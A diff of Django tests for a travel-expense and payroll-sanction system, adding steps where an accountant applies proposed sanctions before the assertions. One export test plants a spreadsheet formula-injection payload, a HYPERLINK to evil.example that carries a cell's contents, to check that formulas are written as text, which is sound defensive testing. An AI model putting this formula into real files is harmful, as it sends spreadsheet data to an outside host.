@@ -18,6 +18,7 @@ from deadlines import sanctions
 from deadlines.models import PayrollDeductionOrder, PayrollExport, Sanction
 from missions import services as mission_services
 from missions.models import Advance
+from tests.deadlines.proposals import apply_proposals
 from tests.factories import UserFactory
 from viaticos.errors import DomainError
 from viaticos.models import TravelerProfile
@@ -50,13 +51,14 @@ def test_r_3_11a_no_new_advance_while_unsettled_is_derived_not_stored(
 
 
 def test_r_3_13_co_executing_entity_gets_no_advance_until_its_people_settle(
-    returned_mission, authorized_mission, traveler, other_traveler
+    returned_mission, authorized_mission, traveler, other_traveler, accountant
 ):
     TravelerProfile.objects.filter(user__in=[traveler, other_traveler]).update(
         entity_kind=TravelerProfile.EntityKind.CO_EXECUTING, entity_name="Entidad Coejecutora"
     )
     returned_mission()  # Lucía is late
     run("2026-03-13")
+    apply_proposals(accountant, proposed_on=dt.date(2026, 3, 13))  # R-A1: a person applies
     block = Sanction.objects.get(kind="co_executing_block")
     assert (block.rule, block.state, block.entity_name) == (
         "R-3.13",
@@ -72,13 +74,14 @@ def test_r_3_13_co_executing_entity_gets_no_advance_until_its_people_settle(
 
 
 def test_r_3_13_member_institution_disbursement_is_refused_while_blocked(
-    returned_mission, signed_advance, traveler, other_traveler, treasurer
+    returned_mission, signed_advance, traveler, other_traveler, treasurer, accountant
 ):
     TravelerProfile.objects.filter(user__in=[traveler, other_traveler]).update(
         entity_kind=TravelerProfile.EntityKind.MEMBER_INSTITUTION, entity_name="INSIVUMEH"
     )
     returned_mission()
     run("2026-03-13")
+    apply_proposals(accountant, proposed_on=dt.date(2026, 3, 13))  # R-A1: a person applies
     advance = signed_advance(other_traveler)  # requesting is allowed, paying is not
     with pytest.raises(DomainError) as error:
         mission_services.advance_disburse(
@@ -209,13 +212,14 @@ def test_lift_needs_a_reason_and_cancels_the_pending_deduction(returned_mission,
     returned_mission()
     run("2026-03-13")
     run("2026-03-23")
+    apply_proposals(accountant, proposed_on=dt.date(2026, 3, 23))  # R-A1: a person applies
     sanction = Sanction.objects.get(kind="payroll_deduction")
     with pytest.raises(DomainError):
         sanctions.sanction_lift(actor=accountant, sanction=sanction, reason=" ", today=TODAY)
     sanctions.sanction_lift(
         actor=accountant, sanction=sanction, reason="Liquidó en ventanilla.", today=TODAY
     )
-    assert sanction.deduction_order.__class__.objects.get().state == "cancelled"
+    assert PayrollDeductionOrder.objects.get(sanction=sanction).state == "cancelled"
 
 
 # --- payroll export ----------------------------------------------------------------------------
@@ -227,6 +231,7 @@ def test_r_8b_payroll_export_csv_and_xlsx_once_then_only_with_a_reason(
     returned_mission()
     run("2026-03-13")
     run("2026-03-23")
+    apply_proposals(accountant, proposed_on=dt.date(2026, 3, 23))  # R-A1: a person applies
     order = PayrollDeductionOrder.objects.get()
     client.force_login(accountant)
     url = reverse("deadlines:payroll")
@@ -292,6 +297,7 @@ def test_traveler_cannot_see_others_sanctions_or_requirements(
     returned_mission()
     run("2026-03-13")
     run("2026-03-23")
+    apply_proposals(accountant, proposed_on=dt.date(2026, 3, 23))  # R-A1: a person applies
     sanction = Sanction.objects.get()
     order = PayrollDeductionOrder.objects.get()
     client.force_login(other_traveler)
@@ -378,6 +384,7 @@ def test_r_8b_payroll_export_writes_a_typed_formula_as_text(
     returned_mission()
     run("2026-03-13")
     run("2026-03-23")
+    apply_proposals(accountant, proposed_on=dt.date(2026, 3, 23))  # R-A1: a person applies
     formula = '=HYPERLINK("http://evil.example/?"&D2,"Ver")'
     PayrollDeductionOrder.objects.update(person_name=formula, concept="@SUM(1+1)")
     client.force_login(accountant)
